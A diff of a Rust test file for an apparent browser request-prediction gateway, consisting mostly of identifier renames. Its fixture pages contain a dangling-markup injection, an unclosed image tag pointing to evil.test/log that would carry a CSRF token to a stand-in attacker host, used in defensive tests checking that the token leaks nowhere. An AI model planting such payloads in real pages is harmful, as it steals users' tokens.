@@ -25,7 +25,7 @@ use tempfile::NamedTempFile;
 use crate::pair::{Pair, Setup};
 
 /// Maximum duration of a page load.
-const LOAD: Duration = Duration::from_secs(60);
+const LOAD_LIMIT: Duration = Duration::from_secs(60);
 /// A 1 x 1 pixel GIF.
 const PIXEL: &[u8] = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;";
 /// The user's bank, which embeds frames of the other hosts.
@@ -95,7 +95,7 @@ fn resource(host: &str, path: &str) -> Answer {
                 "default-src 'none'; img-src 'self'; script-src 'nonce-right'; style-src 'self'; base-uri 'none'",
             )],
         ),
-        ("bank.test", "/lines") => html(LINES),
+        ("bank.test", "/lines") => html(UNCLOSED),
         ("bank.test", "/own.css") => Answer {
             media: "text/css",
             ..html("p { background: url(SCHEME://evil.test/by-sheet.gif) } h1 { background: url(/of-sheet.gif) }")
@@ -124,7 +124,7 @@ const STRICT: &str = "<!doctype html><link rel=icon href=data:,><h1>Strict</h1><
     <iframe src=SCHEME://evil.test/frame></iframe><style>p { background: url(SCHEME://bank.test/inline.gif) }</style>
     <img src='SCHEME://evil.test/log?<input name=csrf value=TOKEN><b title=''>";
 /// A page without policy, with an injected image element that is not closed.
-const LINES: &str = "<!doctype html><link rel=icon href=data:,><h1>Lines</h1><img src=/own.gif>
+const UNCLOSED: &str = "<!doctype html><link rel=icon href=data:,><h1>Lines</h1><img src=/own.gif>
     <p>injected: <img src='SCHEME://evil.test/log?
     <input name=csrf value=TOKEN><b title=''>";
 
@@ -152,7 +152,7 @@ fn answer(scheme: &str, request: &Request<Incoming>) -> Response<AnswerBody> {
 }
 
 /// The hosts, a pair, and a browser in which the user is logged in.
-struct World {
+struct Scenario {
     scheme: &'static str,
     origin: Origin,
     authority: TestAuthority,
@@ -161,7 +161,7 @@ struct World {
     _trusted: NamedTempFile,
 }
 
-impl World {
+impl Scenario {
     async fn start(scheme: &'static str, more: &[(&str, SocketAddr)]) -> Result<Self> {
         let authority = TestAuthority::new()?;
         let is_secure = scheme == "https";
@@ -216,7 +216,7 @@ impl World {
 
     async fn load(&mut self, page: &str) -> Result<()> {
         let url = format!("{}://{page}", self.scheme);
-        self.browser.load(&url, &LoadOptions::within(LOAD)).await?;
+        self.browser.load(&url, &LoadOptions::within(LOAD_LIMIT)).await?;
         Ok(())
     }
 
@@ -235,13 +235,13 @@ impl World {
         let before = self.origin.seen().len();
         let mut browser = Browser::start(&options).await?;
         let url = format!("{}://{page}", self.scheme);
-        browser.load(&url, &LoadOptions::within(LOAD)).await?;
+        browser.load(&url, &LoadOptions::within(LOAD_LIMIT)).await?;
         browser.close().await;
-        Ok(self.asked(before))
+        Ok(self.requested_since(before))
     }
 
     /// Requests at the hosts after the first `before` ones.
-    fn asked(&self, before: usize) -> BTreeSet<String> {
+    fn requested_since(&self, before: usize) -> BTreeSet<String> {
         let seen = self.origin.seen();
         let later = seen.get(before..).unwrap_or_default();
         later
@@ -259,7 +259,7 @@ fn field<'a>(seen: &'a Seen, name: &str) -> &'a str {
 /// A page with cross-site frames, loaded twice: the gateway requests their objects with the fields that the
 /// browser would use.
 async fn frames(scheme: &'static str) -> Result<()> {
-    let mut world = World::start(scheme, &[]).await?;
+    let mut world = Scenario::start(scheme, &[]).await?;
     for _ in 0..2 {
         world.load("bank.test/").await?;
     }
@@ -308,14 +308,14 @@ async fn objects_of_cross_site_frames_are_requested_without_cookies_over_http() 
 /// The pair causes the same requests as a browser without a pair, and a token in the page is not sent
 /// anywhere.
 async fn injected(scheme: &'static str) -> Result<()> {
-    let mut world = World::start(scheme, &[]).await?;
+    let mut world = Scenario::start(scheme, &[]).await?;
     for (page, least) in [("bank.test/strict", 3), ("bank.test/lines", 2)] {
         let direct = world.direct(page).await?;
         assert!(direct.len() >= least, "{direct:?}");
         for visit in 0..2 {
             let before = world.origin.seen().len();
             world.load(page).await?;
-            let asked = world.asked(before);
+            let asked = world.requested_since(before);
             let foreign: Vec<_> = asked.difference(&direct).collect();
             assert!(
                 foreign.is_empty(),
@@ -361,7 +361,7 @@ async fn predicted_requests_respect_cookie_paths_and_blocked_ports() -> Result<(
         ("bank.test:25", mail.address()),
         ("bank.test:6667", mail.address()),
     ];
-    let mut world = World::start("http", &ports).await?;
+    let mut world = Scenario::start("http", &ports).await?;
     for _ in 0..2 {
         world.load("bank.test/~alice/").await?;
     }
